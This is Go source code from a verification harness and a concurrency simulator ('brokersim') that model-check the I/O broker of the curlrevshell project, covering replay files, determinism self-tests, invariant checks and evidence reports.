			die2("usage: check selftest <property> [seeds]")
		}
		n := 40
		if len(os.Args) > 3 {
			n, _ = strconv.Atoi(os.Args[3])
		}
		d := lookup(os.Args[2])
		bin := build(d.Engine)
		rep, err := selftest(d, bin, envSeed(), n)
		b, _ := json.MarshalIndent(rep, "", " ")
		fmt.Println(string(b))
		if err != nil {
			die2("%v", err)
		}
	case "list":
		for _, d := range checks {
			fmt.Printf("%s engine=%s level=%s\n", d.ID, d.Engine, d.Level)
		}
	default:
		die2("unknown command %q", os.Args[1])
	}
}

func lookup(id string) *checkDef {
	for i := range checks {
		if checks[i].ID == id {
			return &checks[i]
		}
	}
	die2("no check for property %q", id)
	return nil
}

// replayFile re-runs a replay file in a fresh worker process.
func replayFile(path string, verbose bool) int {
	var rp simkit.Replay
	if err := simkit.LoadJSON(path, &rp); err != nil {
		die2("%v", err)
	}
	d := lookup(rp.Property)
	eng := d.Engine
	if rp.Engine != "" {
		eng = rp.Engine
	}
	bin := build(eng)
	abs, _ := filepath.Abs(path)
	j := simkit.Job{Property: rp.Property, Engine: eng, Mode: "replay", Tier: "quick", Seed: rp.Seed, Replay: abs,
		ReplayDir: filepath.Join(verifRoot, "replays"), BudgetMS: 120000, Args: d.Args}
	res, err := runWorker(bin, j, 2, 5*time.Minute)
	if ce, ok := err.(*crashError); ok {
		fmt.Printf("reproduced: the worker process died again: %s\n%s\n", ce.panicLine, ce.output)
		fmt.Printf("VIOLATION property=%s replay=%s\n", rp.Property, abs)
		return 1
	}
	if err != nil {
		die2("%v", err)
	}
	if verbose {
		for _, n := range res.Notes {
			fmt.Println(n)
		}
	}
	if res.Reproduced {
		v := res.Violations[0]
		fmt.Printf("reproduced: %s/%s: %s\n", v.Property, v.Invariant, v.Message)
		fmt.Printf("VIOLATION property=%s replay=%s\n", rp.Property, abs)
		return 1
	}
	fmt.Printf("not reproduced on this tree: %s/%s (%s)\n", rp.Property, rp.Invariant, rp.Signature)
	return 0
}

type selftestReport struct {
	Seeds      int      `json:"seeds_per_process"`
	Processes  int      `json:"processes"`
	GOMAXPROCS []int    `json:"gomaxprocs"`
	Identical  bool     `json:"logs_identical"`
	Diffs      []string `json:"diffs,omitempty"`
	Skipped    string   `json:"skipped,omitempty"`
}

// selftest runs the same seeds in several fresh processes at different
// GOMAXPROCS and compares the canonical event logs.
func selftest(d *checkDef, bin string, seed uint64, runs int) (*selftestReport, error) {
	rep := &selftestReport{Seeds: runs, GOMAXPROCS: []int{1, 4, 16, 2, 8, 1}}
	if d.NoSelftest != "" {
		rep.Skipped = d.NoSelftest
		rep.Identical = true
		return rep, nil
	}
	dir, err := os.MkdirTemp("", "verif-st-")
	if err != nil {
		return rep, err
	}
	defer os.RemoveAll(dir)
	var wg sync.WaitGroup
	logs := make([]string, len(rep.GOMAXPROCS))
	errs := make([]error, len(rep.GOMAXPROCS))
	for i, p := range rep.GOMAXPROCS {
		wg.Add(1)
		go func(i, p int) {
			defer wg.Done()
			lp := filepath.Join(dir, fmt.Sprintf("log%d.txt", i))
			j := simkit.Job{Property: d.ID, Engine: d.Engine, Mode: "selftest", Tier: "quick", Seed: seed, Worker: 0, Workers: 1,
				MaxRuns: int64(runs), LogPath: lp, ReplayDir: dir, BudgetMS: 300000, Args: d.Args}
			_, errs[i] = runWorker(bin, j, p, 10*time.Minute)
			b, _ := os.ReadFile(lp)
			logs[i] = string(b)
		}(i, p)
	}
	wg.Wait()
	rep.Processes = len(logs)
	for _, e := range errs {
		if e != nil {
			return rep, e
		}
	}
	rep.Identical = true
	for i := 1; i < len(logs); i++ {
		if logs[i] != logs[0] {
			rep.Identical = false
			a, b := strings.Split(logs[0], "\n"), strings.Split(logs[i], "\n")
			for k := 0; k < len(a) && k < len(b); k++ {
				if a[k] != b[k] {
					rep.Diffs = append(rep.Diffs, fmt.Sprintf("process 0 (GOMAXPROCS %d) vs %d (GOMAXPROCS %d): %q vs %q", rep.GOMAXPROCS[0], i, rep.GOMAXPROCS[i], a[k], b[k]))
					break
				}
			}
		}
	}
	if !rep.Identical {
		return rep, fmt.Errorf("determinism self-test failed: %v", rep.Diffs)
	}
	return rep, nil
}

func runCheck(id, tier string) int {
	d := lookup(id)
	start := time.Now()
	seed := envSeed()
	fmt.Printf("check %s tier=%s seed=%d engine=%s repo=%s\n", id, tier, seed, d.Engine, repoPath())
	bin := build(d.Engine)
	budget := d.QuickMS
	if tier == "thorough" {
		budget = d.ThoroughMS
	}
	workers := d.Workers
	if workers <= 0 {
		workers = 16
	}
	// some properties have facets in a second engine: a few of the workers run that one
	engines := make([]string, workers)
	bins := make([]string, workers)
	for w := range engines {
		engines[w], bins[w] = d.Engine, bin
	}
	next := workers
	for _, al := range d.Also {
		ab := build(al.Engine)
		for i := 0; i < al.Workers && next > 1; i++ {
			next--
			engines[next], bins[next] = al.Engine, ab
		}
	}
	replayDir := filepath.Join(verifRoot, "replays")
	if d := os.Getenv("VERIF_REPLAY_DIR"); d != "" {
		replayDir = d
	}
	_ = os.MkdirAll(replayDir, 0o755)
	results := make([]*simkit.Result, workers)
	errs := make([]error, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			j := simkit.Job{Property: id, Engine: engines[w], Mode: "search", Tier: tier, Seed: seed, Worker: w, Workers: workers,
				BudgetMS: budget, ReplayDir: replayDir, Args: d.Args}
			gmp := d.GOMAXPROCS
			if gmp <= 0 {
				gmp = 2
			}
			results[w], errs[w] = runWorker(bins[w], j, gmp, 4*time.Minute+time.Duration(budget)*time.Millisecond)
		}(w)
	}
	wg.Wait()
	// A worker in trouble (stuck, crashed, could not do its part) is never a
	// verdict.  But what healthy workers found and a fresh process confirms is
	// still reported; only if there is nothing of that kind is the run exit 2.
	var trouble []string
	var crashViols []simkit.Violation
	for w, e := range errs {
		if ce, ok := e.(*crashError); ok && ce.run >= 0 {
			// a panic in the code under test: name the run in a replay file and see
			// whether producing that run again kills a fresh process the same way
			rg := map[string]any{"regenerate": simkit.Regenerate{Seed: seed, Worker: w, Workers: workers, Run: ce.run, Tier: tier}}
			cb, _ := json.Marshal(rg)
			rp := simkit.Replay{Property: id, Engine: engines[w], Invariant: "no-panic", Signature: "Go panic in the code under test", Message: ce.panicLine + "\n" + ce.output, Seed: seed, Case: cb,
				Note: "the case is a generated run, named by seed, worker and run number; replaying produces it again"}
			path := filepath.Join(replayDir, fmt.Sprintf("%s-no-panic-%d-w%d-r%d.json", id, seed, w, ce.run))
			if simkit.SaveJSON(path, &rp) == nil {
				j := simkit.Job{Property: id, Engine: engines[w], Mode: "replay", Tier: tier, Seed: seed, Replay: path, ReplayDir: replayDir, BudgetMS: 120000, Args: d.Args}
				_, rerr := runWorker(bins[w], j, 2, 5*time.Minute)
				if rce, ok := rerr.(*crashError); ok {
					crashViols = append(crashViols, simkit.Violation{Property: id, Invariant: "no-panic", Signature: "Go panic in the code under test",
						Message: rce.panicLine, Seed: seed, Run: ce.run, Replay: path, Fatal: true})
					results[w] = simkit.NewResult(&simkit.Job{Property: id, Engine: engines[w]})
					results[w].Engine = engines[w]
					errs[w] = nil
					continue
				}
			}
		}
		if e != nil {
			trouble = append(trouble, e.Error())
			if results[w] == nil {
				results[w] = simkit.NewResult(&simkit.Job{Property: id, Engine: engines[w]})
				results[w].Engine = engines[w]
			}
		}
	}
	anyViolation := len(crashViols) > 0
	for _, r := range results {
		if len(r.Violations) > 0 {
			anyViolation = true
		}
	}
	if len(trouble) > 0 && !anyViolation {
		fmt.Fprintf(os.Stderr, "check %s: harness trouble (exit 2, not a verdict): %s\n", id, strings.Join(trouble, "\n"))
		return 2
	}
	if len(trouble) > 0 {
		fmt.Fprintf(os.Stderr, "check %s: note: %d worker(s) had trouble (not a verdict): %s\n", id, len(trouble), tail(strings.Join(trouble, " | "), 1500))
	}
	// merge
	tot := simkit.NewResult(&simkit.Job{Property: id, Engine: d.Engine})
	distinct, states, trans := simkit.Set64{}, simkit.Set64{}, simkit.Set64{}
	exhaustive := true
	var viols []simkit.Violation
	perEngine := map[string]int64{}
	for _, r := range results {
		perEngine[r.Engine] += r.Runs
		tot.Runs += r.Runs
		tot.Steps += r.Steps
		tot.SimNanos += r.SimNanos
		for k, v := range r.Faults {
			tot.Faults[k] += v
		}
		for k, v := range r.Probes {
			tot.Probes[k] += v
		}
		for k, v := range r.Other {
			tot.Other[k] += v
		}
		for _, h := range r.Distinct {
			distinct.Add(h)
		}
		for _, h := range r.States {
			states.Add(h)
		}
		for _, h := range r.Transitions {
			trans.Add(h)
		}
		if len(tot.Samples) < 3 {
			tot.Samples = append(tot.Samples, r.Samples...)
		}
		exhaustive = exhaustive && r.Exhaustive
		viols = append(viols, r.Violations...)
		tot.Notes = append(tot.Notes, r.Notes...)
	}
	if len(tot.Samples) > 3 {
		tot.Samples = tot.Samples[:3]
	}
	viols = append(viols, crashViols...)
	// violations: dedupe, confirm in a fresh process, filter known findings
	sort.Slice(viols, func(i, j int) bool {
		if viols[i].Invariant != viols[j].Invariant {
			return viols[i].Invariant < viols[j].Invariant
		}
		return viols[i].Signature < viols[j].Signature
	})
	known := loadFindings()
	seen := map[string]bool{}
	reported, knownHit, unconfirmedInTrouble := 0, 0, 0
	for _, v := range viols {
		key := v.Invariant + "|" + v.Signature
		if seen[key] {
			continue
		}
		seen[key] = true
		confirmed := v.Invariant == "no-panic" && v.Fatal // confirmed above: the regenerated run crashed a fresh process again
		if v.Replay != "" && !confirmed {
			var rp simkit.Replay
			rbin, reng := bin, d.Engine
			if simkit.LoadJSON(v.Replay, &rp) == nil && rp.Engine != "" && rp.Engine != d.Engine {
				rbin, reng = build(rp.Engine), rp.Engine
			}
			j := simkit.Job{Property: id, Engine: reng, Mode: "replay", Tier: tier, Seed: v.Seed, Replay: v.Replay,
				ReplayDir: replayDir, BudgetMS: 120000, Args: d.Args}
			if res, err := runWorker(rbin, j, 2, 5*time.Minute); err == nil && res.Reproduced {
				confirmed = true
			}
		}
		isKnown := false
		for _, k := range known {
			if k.Status == "known" && k.Property == v.Property && k.Invariant == v.Invariant && k.Signature == v.Signature {
				fmt.Printf("KNOWN-FINDING: property=%s %s\n", id, k.What)
				isKnown = true
				knownHit++
			}
		}
		if isKnown {
			continue
		}
		if !confirmed && len(trouble) > 0 {
			fmt.Printf("unconfirmed in a run with harness trouble, not reported: %s/%s: %s\n", v.Property, v.Invariant, v.Signature)
			unconfirmedInTrouble++
			continue
		}
		reported++
		fmt.Printf("violation %s/%s: %s\n  %s\n  replay confirmed in a fresh process: %v\n", v.Property, v.Invariant, v.Signature, v.Message, confirmed)
		fmt.Printf("VIOLATION property=%s replay=%s\n", id, v.Replay)
	}
	wall := time.Since(start).Seconds()
	// evidence
	var st *selftestReport
	if tier == "thorough" {
		var err error
		st, err = selftest(d, bin, seed, d.SelftestRuns)
		if err != nil {
			fmt.Fprintf(os.Stderr, "check %s: %v\n", id, err)
			return 2
		}
	}
	tot.Probes["_engines"] = 0
	delete(tot.Probes, "_engines")
	evidenceEngines = perEngine
	writeEvidence(d, tier, seed, tot, len(distinct), len(states), len(trans), exhaustive && d.Exhaustible, reported+knownHit, time.Since(start).Seconds(), wall, st, workers, budget)
	fmt.Printf("check %s: %d runs, %d steps, %d distinct non-trivial cases, %d violations reported, %d known findings, %.1fs\n",
		id, tot.Runs, tot.Steps, len(distinct), reported, knownHit, time.Since(start).Seconds())
	if len(tot.Other) > 0 {
		fmt.Printf("note: violations of other properties seen during these runs (reported by their own checks): %v\n", tot.Other)
	}
	if reported > 0 {
		return 1
	}
	if len(trouble) > 0 {
		return 2
	}
	return 0
}

var evidenceEngines map[string]int64

// lookupEngine returns some check definition that uses engine e as its main one.
func lookupEngine(e string) *checkDef {
	for i := range checks {
		if checks[i].Engine == e {
			return &checks[i]
		}
	}
	return &checkDef{}
}

func writeEvidence(d *checkDef, tier string, seed uint64, tot *simkit.Result, distinct, states, trans int, exhaustive bool,
	violations int, wallAll, wallSearch float64, st *selftestReport, workers int, budget int64) {
	cov := map[string]any{
		"evaluations":          tot.Runs,
		"distinct_nontrivial":  distinct,
		"rule":                 d.Rule,
		"samples":              tot.Samples,
		"exhaustive":           exhaustive,
		"macro_steps":          tot.Steps,
		"simulated_seconds":    float64(tot.SimNanos) / 1e9,
		"runs_per_hour":        int64(float64(tot.Runs) / (wallSearch + 0.001) * 3600),
		"seeds":                fmt.Sprintf("base seed %d, %d workers, one derived seed per run (mix(seed, worker, run))", seed, workers),
		"faults_fired":         tot.Faults,
		"probes":               tot.Probes,
		"real_vs_stub":         d.RealStub,
		"budget_ms_per_worker": budget,
	}
	if states > 0 {
		cov["states"] = states
		cov["transitions"] = trans
		cov["state_measure"] = d.StateMeasure
	}
	if st != nil {
		cov["determinism_selfcheck"] = st
	}
	if len(evidenceEngines) > 1 {
		cov["runs_per_engine"] = evidenceEngines
		also := map[string]any{}
		for _, al := range d.Also {
			also[al.Engine] = map[string]any{"why": al.Why, "real_vs_stub": lookupEngine(al.Engine).RealStub}
		}
		cov["secondary_engines"] = also
	}
	if len(tot.Other) > 0 {
		cov["other_property_violations_seen"] = tot.Other
	}
	var zero []string
	for _, p := range d.MustProbe {
		if tot.Probes[p] == 0 && tot.Faults[p] == 0 {
			zero = append(zero, p)
		}
	}
	if len(zero) > 0 {
		cov["probes_stuck_at_zero"] = zero
	}
	ev := map[string]any{
		"property_id": d.ID,
		"tier":        tier,
		"seed":        int64(seed & 0x7fffffffffffffff),
		"level":       d.Level,
		"coverage":    cov,
		"assumptions": d.Assumptions,
		"wall_s":      wallAll,
		"violations":  violations,
	}
	evDir := filepath.Join(verifRoot, "evidence")
	if d := os.Getenv("VERIF_EVIDENCE_DIR"); d != "" {
		evDir = d // trial runs against scratch trees must not overwrite the real evidence
	}
	_ = os.MkdirAll(evDir, 0o755)
	if err := simkit.SaveJSON(filepath.Join(evDir, d.ID+".json"), ev); err != nil {
		die2("writing evidence: %v", err)
	}
}
