package brokersim

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"reflect"
	"runtime/debug"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"unsafe"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// Engine is the Layer A engine.
type Engine struct{}

// Name implements simkit.Engine.
func (Engine) Name() string { return "brokersim" }

type simKey struct{}
type attKey struct{}

var hookOnce sync.Once

func installHook() {
	hookOnce.Do(func() {
		iobroker.VerifHook = func(ctx context.Context, site, dir, key string) {
			s, _ := ctx.Value(simKey{}).(*sim)
			if s == nil {
				return
			}
			a, _ := ctx.Value(attKey{}).(*attempt)
			s.hook(a, site, dir, key)
		}
	})
}

// Run implements simkit.Engine.
func (Engine) Run(t *testing.T, job *simkit.Job, rng *simkit.RNG, idx int64, c *simkit.Case) *simkit.Outcome {
	installHook()
	var (
		cfg    Config
		script []Action
		replay bool
	)
	if c != nil {
		replay = true
		if err := json.Unmarshal(c.Config, &cfg); err != nil {
			return &simkit.Outcome{HarnessErr: "bad config: " + err.Error()}
		}
		for _, raw := range c.Actions {
			var a Action
			if err := json.Unmarshal(raw, &a); err != nil {
				return &simkit.Outcome{HarnessErr: "bad action: " + err.Error()}
			}
			script = append(script, a)
		}
	} else {
		var done bool
		cfg, script, done = genConfig(job, rng, idx)
		if done {
			return &simkit.Outcome{Done: true}
		}
		replay = script != nil
	}
	s := newSim(cfg, rng)
	s.script, s.replay = script, replay
	if cfg.Enum != "" && c == nil {
		s.probes["enum_cases"]++
	}
	s.freeTail = c == nil && script != nil // enumerated prefix, then generated tail
	func() {
		defer func() {
			if r := recover(); r != nil {
				msg := fmt.Sprint(r)
				if strings.Contains(msg, "deadlock") && strings.Contains(msg, "blocked goroutines remain") {
					// goroutines of the code outlived the run: that is the leak
					// the oracle has already judged (or a harness bug)
					if !s.leakSeen && len(s.found) == 0 {
						s.harnessErr = "bubble ended with blocked goroutines the leak scan did not report: " + msg
					}
					return
				}
				s.harnessErr = "panic outside bubble: " + msg + "\n" + string(debug.Stack())
			}
		}()
		synctest.Test(t, func(*testing.T) { s.main() })
	}()
	return s.outcome()
}

func newSim(cfg Config, rng *simkit.RNG) *sim {
	return &sim{
		cfg: cfg, rng: rng,
		faults: map[string]int64{}, probes: map[string]int64{},
		states: simkit.Set64{}, trans: simkit.Set64{},
		ownGIDs: map[int64]bool{}, bidirKeys: map[string]bool{},
		mustEnd: map[*half]int{}, tag: map[int64]*attempt{},
		byAddr: map[string]*attempt{},
	}
}

func (s *sim) outcome() *simkit.Outcome {
	o := &simkit.Outcome{
		Invalid: s.invalid, Steps: int64(s.step), SimNanos: s.simNanos,
		Faults: s.faults, Probes: s.probes, NonTrivial: s.nontrivial,
		States: s.states.Sorted(), Transitions: s.trans.Sorted(),
		Violations: s.found, Trace: s.trace, HarnessErr: s.harnessErr,
	}
	cb, _ := json.Marshal(s.cfg)
	cs := &simkit.Case{Config: cb}
	var parts []string
	for _, a := range s.actions {
		b, _ := json.Marshal(a)
		cs.Actions = append(cs.Actions, b)
		parts = append(parts, string(b))
	}
	o.Case = cs
	o.Hash = simkit.Hash64(append([]string{string(cb)}, parts...)...)
	return o
}

// hook is called by the broker (through iobroker.VerifHook) at its
// serialisation points.
func (s *sim) hook(a *attempt, site, dir, key string) {
	gid := simkit.GoID()
	s.mu.Lock()
	if s.tearingDown {
		s.mu.Unlock()
		return
	}
	if site == "shutdown" {
		p := &park{site: site, ch: make(chan struct{})}
		s.shutPark = p
		s.mu.Unlock()
		<-p.ch
		return
	}
	if a == nil {
		s.mu.Unlock()
		return
	}
	s.tag[gid] = a
	var h *half
	if dir == dirIn {
		h = a.in
	} else {
		h = a.out
	}
	if h == nil {
		s.harnessErr = fmt.Sprintf("hook %s for attempt %d direction %q which it does not have", site, a.id, dir)
		s.mu.Unlock()
		return
	}
	h.key = key
	switch site {
	case "admit", "release":
		p := &park{site: site, h: h, ch: make(chan struct{}), gid: gid}
		h.park = p
		h.gid = gid
		h.site = site
		if site == "release" {
			h.proxyEnded = true
			if h.attachedR && !s.endCause(h) {
				h.endedNoCause = true
			}
		}
		s.parks = append(s.parks, p)
		s.mu.Unlock()
		<-p.ch
		return
	case "attached":
		h.attachedR = true
		h.site = "attached"
		s.unbusy(h)
	case "done":
		h.doneR = true
		h.site = "done"
		s.unbusy(h)
	}
	s.mu.Unlock()
}

// endCause reports whether anything has happened that ends stream h: its own
// transport's end or failure, its caller's context, its peer's release, the
// operator's input closing, shutdown.  Called with s.mu held, at the moment
// the stream's proxy has ended.
func (s *sim) endCause(h *half) bool {
	if s.ctxDying(h) || s.shutdown || h.cancelCause {
		return true
	}
	at := h.att
	if h.dir == dirOut {
		return at.r != nil && (at.r.ended || at.r.closed)
	}
	return s.inputClosed || (at.w != nil && (at.w.failed || at.w.closed))
}

// unbusy: h has left its lock section.
func (s *sim) unbusy(h *half) {
	for i, x := range s.busyStack {
		if x == h {
			s.busyStack = append(s.busyStack[:i], s.busyStack[i+1:]...)
			break
		}
	}
	s.busy = nil
	if n := len(s.busyStack); n > 0 {
		s.busy = s.busyStack[n-1]
	}
}

func (s *sim) main() {
	defer func() {
		if r := recover(); r != nil {
			s.harnessErr = fmt.Sprintf("panic in simulator: %v\n%s", r, debug.Stack())
		}
	}()
	s.setup()
	max := s.cfg.MaxSteps
	if max <= 0 {
		max = 60
	}
	for s.step = 1; s.step <= max && len(s.found) == 0 && s.harnessErr == ""; s.step++ {
		simkit.Heartbeat.Add(1)
		a, ok := s.next()
		if !ok {
			break
		}
		if err := s.precond(a); err != nil {
			if s.replay && !s.freeTail {
				s.invalid = true
				s.trace = append(s.trace, fmt.Sprintf("step %d %s :: NOT ENABLED: %v", s.step, a, err))
				break
			}
			s.harnessErr = fmt.Sprintf("generated action %s not enabled: %v", a, err)
			break
		}
		s.noteState(a)
		s.actions = append(s.actions, a)
		s.apply(a)
		s.settle()
		s.check(a)
		s.flushObs(a.String())
	}
	if !s.invalid && s.harnessErr == "" {
		s.drain()
	}
	s.teardown()
}

func (s *sim) setup() {
	cfg := s.cfg
	s.ich = make(chan string, cfg.IchCap)
	s.och = make(chan opshell.CLine, cfg.OchCap)
	s.logBuf = &lockedBuf{}
	s.baseLog = slog.New(parkHandler{slog.NewJSONHandler(s.logBuf, nil), s})
	b, err := iobroker.New(s.ich, s.och)
	if err != nil {
		s.harnessErr = "iobroker.New: " + err.Error()
		return
	}
	s.b = b
	if cfg.Served > 0 {
		if served(b, cfg.Served) > 0 {
			s.probes["counters_moved_forward"]++
		}
	}
	s.lock = brokerLock(b)
	if s.lock == nil && cfg.LogPark {
		s.probes["log_park_unavailable"]++
	}
	s.bctx, s.bcancel = context.WithCancel(context.WithValue(context.Background(), simKey{}, s))
	for i := 0; i < cfg.Listeners; i++ {
		n := 4096
		if i == 0 && cfg.LazyListener {
			n = 1 + len(cfg.IDs)%2
		}
		ch := make(chan iobroker.Event, n)
		s.listen = append(s.listen, ch)
		s.events = append(s.events, nil)
		b.AddEventListener(ch)
	}
	go func() {
		gid := simkit.GoID()
		s.mu.Lock()
		s.ownGIDs[gid] = true
		s.doGID = gid
		s.mu.Unlock()
		_ = b.Do(s.bctx)
		s.mu.Lock()
		s.doRet = true
		s.mu.Unlock()
	}()
	s.feeder = &feeder{s: s, ich: s.ich, wake: make(chan struct{}, 1), stop: make(chan struct{})}
	go s.feeder.run(simkit.GoID)
	synctest.Wait()
	s.baseline = map[int64]bool{}
	for _, g := range simkit.BubbleGoroutines() {
		s.baseline[g.ID] = true
	}
}

func (s *sim) teardown() {
	close(s.feeder.stop)
	// let whatever can still finish, finish
	s.mu.Lock()
	s.tearingDown = true
	s.mu.Unlock()
	s.bcancel()
	s.mu.Lock()
	if s.shutPark != nil {
		close(s.shutPark.ch)
		s.shutPark = nil
	}
	for _, p := range s.parks {
		close(p.ch)
	}
	s.parks = nil
	for _, a := range s.atts {
		a.cancel()
		if a.w != nil {
			a.w.closeNow()
		}
		if a.r != nil {
			a.r.closeNow()
		}
	}
	s.mu.Unlock()
	// a terminal that nobody reads any more must not hold the bubble
	done := make(chan struct{})
	go func() {
		for {
			select {
			case <-s.och:
			case <-done:
				return
			}
		}
	}()
	synctest.Wait()
	close(done)
	synctest.Wait()
	me := simkit.GoID()
	for _, g := range simkit.BubbleGoroutines() {
		if g.ID == me || strings.Contains(g.Stack, "synctest.Run") || strings.Contains(g.Stack, "testingSynctestTest") {
			continue
		}
		// (a run that has already shown a violation stops where it is; what the
		// code, known to be wrong, leaves behind then is not the harness's trouble)
		if !s.leakSeen && s.harnessErr == "" && len(s.found) == 0 {
			s.harnessErr = "goroutine left at the end of the run that the leak scan did not report:\n" + g.Stack
		}
	}
}

// ---- starting attempts -------------------------------------------------

func (s *sim) newAttempt(kind string) *attempt {
	a := &attempt{id: len(s.atts), kind: kind, startedStep: s.step}
	a.addr = fmt.Sprintf("10.%d.%d.%d", 1+a.id/65536, (a.id/256)%256, a.id%256)
	if kind == "io" && s.cfg.IOSameHost {
		a.addr = "10.250.0.1" // several bidirectional clients behind one address
	}
	parent := context.Background()
	if s.cfg.DeriveCtx {
		parent = s.bctx
	}
	ctx := context.WithValue(parent, simKey{}, s)
	ctx = context.WithValue(ctx, attKey{}, a)
	a.ctx, a.cancel = context.WithCancel(ctx)
	s.atts = append(s.atts, a)
	if _, ok := s.byAddr[a.addr]; !ok {
		s.byAddr[a.addr] = a
	}
	return a
}

func (s *sim) logger(a *attempt) *slog.Logger { return s.baseLog.With("att", a.id) }

// parkHandler wraps the JSON log handler.  In log-park runs it holds a caller
// inside its log call when the caller is in the middle of one of the broker's
// lock sections and the broker's lock turns out to be free there: code that
// releases the lock around logging (or any other slow call) opens a window in
// which other callers can run between its checks and its commit, and the
// simulator then explores that window.  With the lock held, nothing is parked.
type parkHandler struct {
	slog.Handler
	s *sim
}

func (h parkHandler) WithAttrs(as []slog.Attr) slog.Handler {
	return parkHandler{h.Handler.WithAttrs(as), h.s}
}
func (h parkHandler) WithGroup(n string) slog.Handler {
	return parkHandler{h.Handler.WithGroup(n), h.s}
}
func (h parkHandler) Handle(ctx context.Context, r slog.Record) error {
	h.s.maybeLogPark()
	return h.Handler.Handle(ctx, r)
}

// brokerLock returns the broker's mutex, found by reflection (nil if the
// struct no longer has one under that name: log-park runs are then skipped).
func brokerLock(b *iobroker.Broker) *sync.Mutex {
	t := reflect.TypeOf(b).Elem()
	f, ok := t.FieldByName("mu")
	if !ok || f.Type != reflect.TypeOf(sync.Mutex{}) {
		return nil
	}
	return (*sync.Mutex)(unsafe.Add(unsafe.Pointer(b), f.Offset))
}

// served makes the broker look like one that has already served n requests:
// every counter it keeps (fields of an atomic integer type, found by
// reflection) is moved forward by n.  A long-running listener reaches any such
// value; doing it by 2^32 real requests is not affordable.  Returns how many
// counters were found.
func served(b *iobroker.Broker, n uint64) int {
	t := reflect.TypeOf(b).Elem()
	k := 0
	for i := 0; i < t.NumField(); i++ {
		f := t.Field(i)
		p := unsafe.Add(unsafe.Pointer(b), f.Offset)
		switch f.Type {
		case reflect.TypeOf(atomic.Uint64{}):
			(*atomic.Uint64)(p).Add(n)
			k++
		case reflect.TypeOf(atomic.Int64{}):
			(*atomic.Int64)(p).Add(int64(n))
			k++
		case reflect.TypeOf(atomic.Uint32{}):
			(*atomic.Uint32)(p).Add(uint32(n))
			k++
		case reflect.TypeOf(atomic.Int32{}):
			(*atomic.Int32)(p).Add(int32(n))
			k++
		}
	}
	return k
}

func (s *sim) maybeLogPark() {
	if !s.cfg.LogPark || s.lock == nil {
		return
	}
	gid := simkit.GoID()
	s.mu.Lock()
	at := s.tag[gid]
	top := s.busy
	if s.tearingDown || at == nil || top == nil || top.gid != gid || top.logParked || top.logPark != nil {
		s.mu.Unlock()
		return
	}
	// is the broker's lock free although this caller is inside a lock section?
	if !s.lock.TryLock() {
		s.mu.Unlock()
		return
	}
	s.lock.Unlock()
	p := &park{site: "log", h: top, ch: make(chan struct{})}
	top.logPark, top.logParked = p, true
	s.parks = append(s.parks, p)
	s.probes["parked_in_log_call_with_lock_free"]++
	s.mu.Unlock()
	<-p.ch
}

func (s *sim) spawn(a *attempt, call func()) {
	go func() {
		gid := simkit.GoID()
		s.mu.Lock()
		s.ownGIDs[gid] = true
		a.gid = gid
		s.mu.Unlock()
		call()
		s.mu.Lock()
		a.wrapperDone = true
		delete(s.ownGIDs, gid)
		s.mu.Unlock()
	}()
}

func (s *sim) mkWriter(a *attempt, act Action) {
	a.w = &simWriter{s: s, att: a, kind: act.S, parkOn: act.P, failAt: act.N, lastLine: -1}
}
