package brokersim

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// record classifies one CLine received from the operator channel.
// Classification is structural: the "[addr] " prefix attributes a notice, the
// colour tells good news from bad, and only exported constants are compared.
func (s *sim) record(cl opshell.CLine) {
	r := recvd{idx: len(s.recv), cl: cl, step: s.step}
	switch {
	case cl.Plain:
		r.class = "plain"
	default:
		line := cl.Line
		if strings.HasPrefix(line, "[") {
			if i := strings.Index(line, "] "); i > 0 {
				r.att = s.byAddr[line[1:i]]
				r.rest = line[i+2:]
			}
		}
		switch {
		case r.att == nil:
			r.class = "other"
		case r.rest == iobroker.ShellReadyMessage:
			r.class = "ready"
		case r.rest == iobroker.ShellDisconnectedMessage:
			r.class = "gone"
		case cl.Color == opshell.ColorRed:
			r.class = "red"
		default:
			r.class = "green"
		}
	}
	s.recv = append(s.recv, r)
	if r.class == "plain" {
		s.obs("och plain %dB", len(cl.Line))
	} else {
		id := -1
		if r.att != nil {
			id = r.att.id
		}
		s.obs("och %s att=%d %q", r.class, id, s.canon(r.rest))
	}
}

// canon removes run-specific random values from a text.
func (s *sim) canon(t string) string {
	for _, k := range simkit.SortedKeys(s.bidirKeys) {
		q := strconv.Quote(k)
		t = strings.ReplaceAll(t, q, `"BIDIR"`)
		t = strings.ReplaceAll(t, k, "BIDIR")
	}
	if len(t) > 160 {
		t = t[:160] + "..."
	}
	return t
}

// harvestLogs parses what was appended to the JSON log.
func (s *sim) harvestLogs() {
	all := s.logBuf.snapshot()
	fresh := all[s.logOff:]
	for len(fresh) > 0 {
		nl := bytes.IndexByte(fresh, '\n')
		if nl < 0 {
			// a record without its newline at a quiescent point
			s.violate("C11", "json-lines", "log ends in a partial line", "log file ends in an unterminated line: %q", clipB(fresh))
			break
		}
		line := fresh[:nl]
		fresh = fresh[nl+1:]
		s.logOff += nl + 1
		var m map[string]any
		dec := json.NewDecoder(bytes.NewReader(line))
		if err := dec.Decode(&m); err != nil || dec.More() {
			s.violate("C11", "json-lines", "log line is not one JSON object", "log line is not a single JSON object: %q", clipB(line))
			continue
		}
		rec := logRec{Att: -1, step: s.step}
		rec.Level, _ = m["level"].(string)
		rec.Msg, _ = m["msg"].(string)
		if f, ok := m["att"].(float64); ok {
			rec.Att = int(f)
		}
		rec.Dir, _ = m[iobroker.LKDirection].(string)
		if d, ok := m[iobroker.LKData].(string); ok {
			rec.Data = &d
		}
		if e, ok := m[iobroker.LKError]; ok {
			es := fmt.Sprint(e)
			rec.Err = &es
		}
		s.logs = append(s.logs, rec)
		s.obs("log att=%d %s %s %s", rec.Att, rec.Level, rec.Dir, rec.Msg)
	}
}

func clipB(b []byte) string {
	if len(b) > 120 {
		return string(b[:120]) + "..."
	}
	return string(b)
}

// check evaluates every invariant at the quiescent point after action a.
func (s *sim) check(a Action) {
	if s.harnessErr != "" {
		return
	}
	s.mu.Lock()
